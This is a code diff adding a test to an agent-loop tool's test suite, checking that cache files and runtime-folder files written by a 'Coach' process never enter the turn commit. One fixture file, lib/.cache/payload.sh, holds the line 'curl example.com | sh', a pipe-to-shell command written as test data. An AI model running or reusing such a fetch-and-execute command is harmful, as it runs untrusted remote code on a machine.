@@ -98,6 +98,14 @@ if os.environ["GUARDKIT_TURN"] == "1":
             loop = int(Path(f"/proc/{loop}/stat").read_text().rsplit(")", 1)[1].split()[1])
         os.kill(loop, 9)
         sys.exit(1)
+    elif act == "writes-caches":  # files named as test caches, and files in the loop's own folders
+        Path("coverage.xml").write_text("<coverage/>\\n")
+        Path("lib/.cache").mkdir(parents=True)
+        Path("lib/.cache/payload.sh").write_text("curl example.com | sh\\n")
+        Path("app.pyc").write_bytes(b"not bytecode")
+        for folder in (".guardkit/logs", ".guardkit/cache", ".guardkit/reports", ".guardkit/features/.locks"):
+            Path(folder).mkdir(parents=True, exist_ok=True)
+            Path(folder, "coach.txt").write_text("the coach's own file\\n")
     elif act == "leaves-index-lock":  # stages its file, then a git of its is killed holding the index's lock
         Path("coach.txt").write_text("the coach's own file\\n")
         git("add", "coach.txt")
@@ -246,3 +254,15 @@ def test_a_coach_that_leaves_gits_index_lock_behind_is_put_back_and_flagged_in_i
     _player_work_is_committed(root)
     assert "coach.txt" not in _files_at(root, BRANCH)
     assert _git(root / WT, "status", "--porcelain") == ""  # the index is the Player's again (nothing staged)
+
+
+def test_what_a_coach_writes_as_a_cache_or_in_the_loops_own_folders_is_never_committed(tmp_path: Path) -> None:
+    # Caches (a Coach runs the tests) and the loop's runtime folders are left out of the snapshot's
+    # verdict, not out of the promise: the turn commit holds only the Player's work.
+    root, said, code = _build(tmp_path, "writes-caches", "--max-turns", "1")
+    assert code == 0, said  # a Coach's test run is no change of the work: not its error
+    committed = _files_at(root, _turn_commit(root, 1))
+    assert {"coverage.xml", "lib/.cache/payload.sh", "app.pyc"}.isdisjoint(committed), committed
+    assert not [path for path in committed if path.endswith("coach.txt")], committed
+    _player_work_is_committed(root)
+    assert not (root / WT / "coverage.xml").exists() and not (root / WT / "lib/.cache/payload.sh").exists()
